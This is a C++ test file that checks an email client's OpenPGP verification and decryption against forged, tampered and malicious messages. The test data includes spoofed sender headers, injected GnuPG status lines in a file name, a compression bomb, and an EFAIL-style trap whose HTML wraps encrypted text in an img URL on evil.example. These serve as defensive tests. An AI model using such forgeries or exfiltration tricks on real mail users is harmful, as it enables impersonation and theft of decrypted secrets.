// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/crypto/limits.h"
#include "core/crypto/protection.h"

#include <QDirIterator>
#include <QProcess>
#include <QTcpServer>

#include "tests/core/crypto/keyring.h"
#include "tests/core/crypto/mails.h"
#include "tests/support/testcase.h"

using namespace Qt::StringLiterals;
using namespace crypto_test;
using crypto::Consent;

namespace {

const QByteArray secret = "The meeting is at nine.";
const QByteArray other = "Send the money to Mallory.";

}

// Messages with OpenPGP, signed and encrypted by GnuPG itself, honest and forged.
class OpenPgpTest : public QObject
{
    Q_OBJECT

private:
    using Side = Keyring::Side;
    std::unique_ptr<Keyring> m_keys;
    std::unique_ptr<crypto::Backend> m_backend;

    crypto::Opened open(const crypto::Request &request) { return crypto::openMessage(request, *m_backend); }
    crypto::Opened open(const QByteArray &entity, const QByteArray &author = fromAnn)
    {
        return open(request(entity, author));
    }
    QByteArray signedBy(const char *who, const QStringList &more = {})
    {
        return pgpSigned(textPart(secret), m_keys->signature(who, textPart(secret), more));
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_backend = crypto::makeBackend();
        if (m_backend->unavailability(crypto::Scheme::OpenPgp) == crypto::Failure::NotBuilt)
            QSKIP("OpenPGP is not tested at all: this build has no GPGME");
        m_keys = std::make_unique<Keyring>();
        QVERIFY2(m_keys->error().isEmpty(), m_keys->error().constData());
        m_backend = crypto::makeBackend(m_keys->home(Side::Reader));
    }
    void cleanup() { QVERIFY2(!m_keys || m_keys->error().isEmpty(), m_keys->error().constData()); }
    void cleanupTestCase() { m_keys.reset(); }

    void showsWhoHasSignedAMessage()
    {
        const auto opened = open(signedBy("ann"));
        QCOMPARE(said(opened.signature), "Valid"_ba);
        QCOMPARE(opened.signature.signer.address, "ann@example.org"_ba);
        QCOMPARE(opened.signature.signer.name, u"Ann Example"_s);
        QCOMPARE(opened.signature.signature->fingerprint, m_keys->fingerprint("ann"));
        QVERIFY(opened.signature.signature->made.isValid());
        QCOMPARE(shownText(opened), secret);
        QCOMPARE(said(opened.decryption), "None"_ba);
    }

    void verifiesWhatAServerKeepsWithOtherLineEnds()
    {
        crypto::Request odd = request(signedBy("ann"));
        odd.text.replace("\r\n", "\n");
        QCOMPARE(said(open(odd).signature), "Valid"_ba);
    }

    void verifiesAMessageThatIsMoreThanText()
    {
        const QByteArray inside = multipart("mixed", {textPart(secret), base64Part("image/png", "\x89PNG")});
        QCOMPARE(said(open(pgpSigned(inside, m_keys->signature("ann", inside))).signature), "Valid"_ba);
    }

    void decryptsByItselfWhatNeedsNoPassphrase()
    {
        const auto opened = open(pgpEncrypted(m_keys->encrypted(textPart(secret))));
        QCOMPARE(said(opened.decryption), "Open"_ba);
        QVERIFY(opened.decryption.isTamperProof);
        QCOMPARE(said(opened.signature), "Unsigned"_ba);
        QCOMPARE(shownText(opened), secret);
    }

    void showsWhoHasSignedBeforeEncrypting()
    {
        const auto together = open(pgpEncrypted(m_keys->encrypted(textPart(secret), "ann")));
        QCOMPARE(said(together.signature), "Valid"_ba);
        const auto nested = open(pgpEncrypted(m_keys->encrypted(signedBy("ann"))));
        QCOMPARE(said(nested.signature), "Valid"_ba);
        QCOMPARE(said(nested.decryption), "Open"_ba);
        QCOMPARE(shownText(nested), secret);
    }

    void isValidForNobodyElse_data();
    void isValidForNobodyElse();
    void refusesWhatCouldHaveBeenChanged_data();
    void refusesWhatCouldHaveBeenChanged();
    void opensAPartAloneAndOnlyWhenAsked();
    void asksNobodyForAPassphraseByItself();
    void asksNoKeyServer();
    void isNotFooledByAFileName();
    void namesWhatIsSignedWithinText();
    void boundsWhatComesOut();
    void leavesNothingOnDisk();
};

// Each of these is shown as Ann's by some program, or has been.
void OpenPgpTest::isValidForNobodyElse_data()
{
    QTest::addColumn<QByteArray>("entity");
    QTest::addColumn<QByteArray>("author");
    QTest::addColumn<QByteArray>("expected");
    const auto row = [](const char *name, const QByteArray &entity, const QByteArray &expected,
                        const QByteArray &author = fromAnn) {
        QTest::newRow(name) << entity << author << expected;
    };
    const QByteArray text = textPart(secret), forged = textPart(other);
    const QByteArray honest = m_keys->signature("ann", text);
    const QByteArray good = pgpSigned(text, honest), fromMallory = signedBy("mallory");

    row("another text", pgpSigned(forged, honest), "Bad DoesNotMatch");
    row("a text with one line more", pgpSigned(text + other + "\r\n", honest), "Bad DoesNotMatch");
    row("a key that nobody here has", signedBy("otto"), "Unverifiable KeyMissing");
    row("a key with her name, of which nobody knows whose it is", signedBy("eve"),
        "GoodButUnknownKey KeyNotTrusted");
    row("her name added to a known key", fromMallory, "GoodButUnknownKey AddressNotConfirmed");
    row("her address as the name on a known key", signedBy("tricky"), "WrongAddress AddressDiffers");
    row("an expired key", signedBy("old", {u"--faked-system-time"_s, u"20200102T000000"_s}),
        "Unverifiable KeyExpired");
    row("a revoked key", signedBy("lost"), "Unverifiable KeyRevoked");
    row("a digest that can be made to collide", signedBy("ann", {u"--digest-algo"_s, u"SHA1"_s}),
        "Unverifiable WeakDigest");

    row("another one in From", good, "WrongAddress AddressDiffers", "From: Bob <bob@example.org>\r\n");
    row("two in From", fromMallory, "WrongAddress AuthorUnclear",
        "From: Ann Example <ann@example.org>, mallory@example.net\r\n");
    row("two From fields", fromMallory, "WrongAddress AuthorUnclear",
        fromAnn + "From: mallory@example.net\r\n");
    row("her address in the name", fromMallory, "WrongAddress AuthorUnclear",
        "From: \"ann@example.org\" <mallory@example.net>\r\n");
    row("hidden characters in the name", fromMallory, "WrongAddress AuthorUnclear",
        "From: =?utf-8?q?Ann_=E2=80=AE_?= <mallory@example.net>\r\n");
    row("no From", fromMallory, "WrongAddress AuthorUnclear", "Sender: mallory@example.net\r\n");
    row("a group in From", fromMallory, "WrongAddress AuthorUnclear", "From: Ann: mallory@example.net;\r\n");
    row("his Sender beside her From", signedBy("tricky"), "WrongAddress AddressDiffers",
        fromAnn + "Sender: mallory@example.net\r\n");
    row("another capital in the local part", good, "WrongAddress AddressDiffers",
        "From: Ann <Ann@example.org>\r\n");

    row("his text around her message", multipart("mixed", {forged, good}), "Unsigned");
    row("his text behind her message", multipart("mixed", {good, forged}), "Unsigned");
    row("her message as a picture of his", multipart("related", {htmlPart("<img src=cid:x>" + other), good}),
        "Unsigned");
    row("her message as another form of his", multipart("alternative", {good, htmlPart(other)}), "Unsigned");
    row("her message attached to his",
        multipart("mixed", {forged, "Content-Type: message/rfc822\r\n\r\n" + fromAnn + good}), "Unsigned");
    row("three parts",
        multipart("signed", {text, "Content-Type: application/pgp-signature\r\n\r\n" + honest, forged},
                  "; protocol=\"application/pgp-signature\""),
        "Unverifiable OddStructure");
    row("the signature first",
        multipart("signed", {"Content-Type: application/pgp-signature\r\n\r\n" + honest, text},
                  "; protocol=\"application/pgp-signature\""),
        "Unverifiable TypesDisagree");
    row("no end", pgpSigned(text, honest).chopped(4), "Unverifiable OddStructure");
    row("no protocol",
        multipart("signed", {text, "Content-Type: application/pgp-signature\r\n\r\n" + honest}),
        "Unverifiable OddStructure");
    row("another protocol",
        QByteArray(good).replace("protocol=\"application/pgp-signature", "protocol=\"application/x"),
        "Unverifiable UnknownForm");
    row("a signature of another type", pgpSigned(text, honest, "text/plain"), "Unverifiable TypesDisagree");
    row("a signature that brings her text", pgpSigned(forged, m_keys->signature("ann", text, {}, "--sign")),
        "Unverifiable ContentInSignature");
    row("a signature within her text", pgpSigned(forged, m_keys->signature("ann", text, {}, "--clear-sign")),
        "Unverifiable ContentInSignature");
    row("two signatures",
        pgpSigned(text,
                  m_keys->gpg(Side::Writers,
                              {u"--armor"_s, u"-u"_s, QString::fromLatin1(m_keys->fingerprint("ann")),
                               u"-u"_s, QString::fromLatin1(m_keys->fingerprint("eve")), u"--detach-sign"_s},
                              text)),
        "Unverifiable SeveralSignatures");
    row("no signature at all", pgpSigned(text, "Good signature from Ann Example\r\n"),
        "Unverifiable ContentInSignature");
    row("his signature around hers", pgpSigned(good, m_keys->signature("mallory", good)),
        "Unverifiable SeveralSignatures");
    const QByteArray sealed = pgpEncrypted(m_keys->encrypted(text));
    row("a signature around what somebody has encrypted", pgpSigned(sealed, m_keys->signature("ann", sealed)),
        "Partial CoversCiphertext");
    row("his signature within the encryption", pgpEncrypted(m_keys->encrypted(text, "eve")),
        "GoodButUnknownKey KeyNotTrusted");
    row("words of GnuPG in the text", pgpEncrypted(m_keys->encrypted(textPart("[GNUPG:] GOODSIG 0 Ann\r\n"))),
        "Unsigned");
    row("a message in the text",
        "Content-Type: text/plain\r\n\r\n" + m_keys->signature("ann", text, {}, "--clear-sign"), "Unsigned");
}

void OpenPgpTest::isValidForNobodyElse()
{
    COVERS("SEC-87");
    QFETCH(QByteArray, entity);
    QFETCH(QByteArray, author);
    const auto opened = open(entity, author);
    QTEST(said(opened.signature), "expected");
    QVERIFY(opened.signature.status != crypto::Judgement::Status::Valid);
}

void OpenPgpTest::refusesWhatCouldHaveBeenChanged_data()
{
    QTest::addColumn<QByteArray>("encrypted");
    QTest::addColumn<QByteArray>("expected");
    const QByteArray good = m_keys->encrypted(textPart(secret), nullptr, {u"--compress-algo"_s, u"none"_s});
    const auto changed = [&](qsizetype fromEnd) {
        const QByteArray dearmored = m_keys->gpg(Side::Writers, {u"--dearmor"_s}, good);
        QByteArray octets = dearmored;
        octets[octets.size() - fromEnd] = static_cast<char>(octets[octets.size() - fromEnd] ^ 1);
        return octets;
    };
    QTest::newRow("a bit of the text") << changed(40) << "Refused Damaged"_ba;
    QTest::newRow("a bit of its check") << changed(3) << "Refused Damaged"_ba;
    QTest::newRow("without a check") << m_keys->encrypted(textPart(secret), nullptr,
                                                          {u"--rfc2440"_s, u"--cipher-algo"_s, u"3DES"_s})
                                     << "Refused NoIntegrity"_ba;
    QTest::newRow("for a password") << m_keys->gpg(
        Side::Writers, {u"--armor"_s, u"--passphrase"_s, u"known"_s, u"--symmetric"_s}, textPart(secret))
                                    << "Refused Unsupported"_ba;
    QTest::newRow("not encrypted at all")
        << m_keys->gpg(Side::Writers, {u"--armor"_s, u"--store"_s}, textPart(secret))
        << "Refused Malformed"_ba;
    QTest::newRow("only signed") << m_keys->signature("ann", textPart(secret), {}, "--sign")
                                 << "Refused Malformed"_ba;
    QTest::newRow("with another text around it") << good + "\r\n" + good << "Refused Malformed"_ba;
    QTest::newRow("nothing") << QByteArray() << "Refused Malformed"_ba;
}

void OpenPgpTest::refusesWhatCouldHaveBeenChanged()
{
    COVERS("SEC-88");
    QFETCH(QByteArray, encrypted);
    crypto::Request asked = request(pgpEncrypted(encrypted));
    if (!encrypted.startsWith("--"))
        asked = request(multipart("encrypted",
                                  {"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
                                   base64Part("application/octet-stream", encrypted)},
                                  "; protocol=\"application/pgp-encrypted\""));
    asked.consent = Consent::Asked;
    const auto opened = open(asked);
    QTEST(said(opened.decryption), "expected");
    QVERIFY(!opened.content);  // whatever GnuPG had put out by then
}

// Direct exfiltration: the secret would become part of an address in the HTML around it.
void OpenPgpTest::opensAPartAloneAndOnlyWhenAsked()
{
    COVERS("SEC-88");
    const QByteArray trap = multipart("mixed",
                                      {htmlPart("<img src=\"http://evil.example/"),
                                       pgpEncrypted(m_keys->encrypted(textPart(secret))), htmlPart("\">")});
    crypto::Request asked = request(trap);
    const auto whole = open(asked);
    QVERIFY(!whole.content);
    QCOMPARE(said(whole.decryption), "None"_ba);
    QCOMPARE(whole.apart, QByteArrayList{"2"});

    asked.section = "2";
    asked.consent = Consent::Asked;
    const auto alone = open(asked);
    QCOMPARE(said(alone.decryption), "Open"_ba);
    QCOMPARE(shownText(alone), secret);
    QVERIFY(alone.content->parts.empty());

    asked = request(multipart("mixed", {textPart(other), signedBy("ann")}));
    asked.section = "2";
    QCOMPARE(said(open(asked).signature), "Partial CoversOnlyAPart"_ba);
    asked = request(pgpEncrypted(m_keys->encrypted(multipart("mixed", {textPart(other), signedBy("ann")}))));
    asked.section = "2";
    QCOMPARE(said(open(asked).signature), "Partial CoversOnlyAPart"_ba);
    QCOMPARE(said(open(asked).decryption), "Open"_ba);  // nothing of it may go elsewhere
    asked.section = "1";                                // which says nothing of the kind
    QCOMPARE(said(open(asked).signature), "Unsigned"_ba);
}

void OpenPgpTest::asksNobodyForAPassphraseByItself()
{
    QVERIFY(m_keys
                ->run(Side::Reader, u"gpg"_s,
                      {u"--batch"_s, u"--pinentry-mode"_s, u"loopback"_s, u"--passphrase"_s, u"known"_s,
                       u"--quick-gen-key"_s, u"Cara <cara@example.org>"_s, u"future-default"_s})
                .isEmpty());
    m_keys->run(Side::Reader, u"gpgconf"_s, {u"--reload"_s, u"gpg-agent"_s});  // forgets passphrases
    const QByteArray encrypted = m_keys->gpg(
        Side::Reader, {u"--armor"_s, u"-r"_s, u"cara@example.org"_s, u"--encrypt"_s}, textPart(secret));
    crypto::Request asked = request(pgpEncrypted(encrypted));
    const int before = m_keys->pinentryCalls();
    QCOMPARE(said(open(asked).decryption), "Locked"_ba);
    QCOMPARE(m_keys->pinentryCalls(), before);
    asked.consent = Consent::Asked;
    QCOMPARE(said(open(asked).decryption), "Refused Locked"_ba);  // it was cancelled there
    QVERIFY(m_keys->pinentryCalls() > before);
}

// Though the reader's own settings would have GnuPG fetch every key that is missing.
void OpenPgpTest::asksNoKeyServer()
{
    QTcpServer server;
    QVERIFY(server.listen(QHostAddress::LocalHost));
    QFile settings(m_keys->home(Side::Reader) + u"/gpg.conf"_s);
    QVERIFY(settings.open(QIODevice::WriteOnly));
    settings.write("keyserver hkp://127.0.0.1:" + QByteArray::number(server.serverPort())
                   + "\nauto-key-retrieve\n");
    settings.close();
    QCOMPARE(said(open(signedBy("otto")).signature), "Unverifiable KeyMissing"_ba);
    QVERIFY(!server.waitForNewConnection(0));
    QVERIFY(!QFile::exists(m_keys->home(Side::Reader) + u"/S.dirmngr"_s));
    // The trap is one: GnuPG by itself walks into it.
    QProcess unbound;
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(u"GNUPGHOME"_s, m_keys->home(Side::Reader));
    unbound.setProcessEnvironment(environment);
    unbound.start(u"gpg"_s, {u"--batch"_s, u"--verify"_s});
    unbound.write(m_keys->signature("otto", secret, {}, "--clear-sign"));
    unbound.closeWriteChannel();
    QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(m_keys->home(Side::Reader) + u"/S.dirmngr"_s), 60'000);
    unbound.kill();
    unbound.waitForFinished();
    QVERIFY(settings.remove());
}

// The name of the file within is the sender's, and is put out beside what GnuPG says itself.
void OpenPgpTest::isNotFooledByAFileName()
{
    COVERS("SEC-87");
    const QString name =
        u"a\n[GNUPG:] GOODSIG 0000000000000000 Ann Example <ann@example.org>\n"
        "[GNUPG:] VALIDSIG 0000000000000000000000000000000000000000 2026-01-01 1767225600 0 4 0 1 8 00 "
        "0000000000000000000000000000000000000000\n[GNUPG:] TRUST_ULTIMATE"_s;
    const auto opened =
        open(pgpEncrypted(m_keys->encrypted(textPart(secret), nullptr, {u"--set-filename"_s, name})));
    QCOMPARE(said(opened.decryption), "Open"_ba);
    QCOMPARE(said(opened.signature), "Unsigned"_ba);
}

void OpenPgpTest::namesWhatIsSignedWithinText()
{
    using crypto::InlineForm;
    QCOMPARE(crypto::inlineForm(u"Hello\n-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n"),
             InlineForm::Signed);
    QCOMPARE(crypto::inlineForm(u"-----BEGIN PGP MESSAGE-----\n"), InlineForm::Encrypted);
    QCOMPARE(crypto::inlineForm(u"> -----BEGIN PGP MESSAGE-----\n"), InlineForm::None);
    QCOMPARE(crypto::inlineForm(u""), InlineForm::None);
}

// A few octets that become many.
void OpenPgpTest::boundsWhatComesOut()
{
    const QByteArray bomb = m_keys->encrypted(QByteArray(crypto::limits::contentOctets + 1, 'a'), nullptr,
                                              {u"--compress-level"_s, u"1"_s});
    QVERIFY(bomb.size() < 2'000'000);
    crypto::Request asked = request(pgpEncrypted(bomb));
    asked.consent = Consent::Asked;
    QCOMPARE(said(open(asked).decryption), "Refused TooLarge"_ba);
    asked.text.append(QByteArray(crypto::limits::messageOctets, 'a'));
    QCOMPARE(said(open(asked).signature), "Error TooLarge"_ba);
}

// Neither GnuPG nor we write down what was decrypted; those rooms that write (store, journal, imap, smtp) may
// not even know this one (tests/architecture).
void OpenPgpTest::leavesNothingOnDisk()
{
    const QTemporaryDir temporary;
    const QByteArray before = qgetenv("TMPDIR");
    qputenv("TMPDIR", QFile::encodeName(temporary.path()));
    const auto backend = crypto::makeBackend(m_keys->home(Side::Reader));
    const auto opened =
        crypto::openMessage(request(pgpEncrypted(m_keys->encrypted(textPart(secret), "ann"))), *backend);
    if (before.isNull())
        qunsetenv("TMPDIR");
    else
        qputenv("TMPDIR", before);
    QCOMPARE(shownText(opened), secret);
    for (const QString &folder : {temporary.path(), m_keys->home(Side::Reader)}) {
        QDirIterator files(folder, QDir::Files | QDir::Hidden, QDirIterator::Subdirectories);
        while (files.hasNext()) {
            QFile file(files.next());
            QVERIFY2(!file.open(QIODevice::ReadOnly) || !file.readAll().contains(secret),
                     qPrintable(file.fileName()));
        }
    }
}

POSTHORN_TEST(OpenPgpTest)

#include "tst_openpgp.moc"
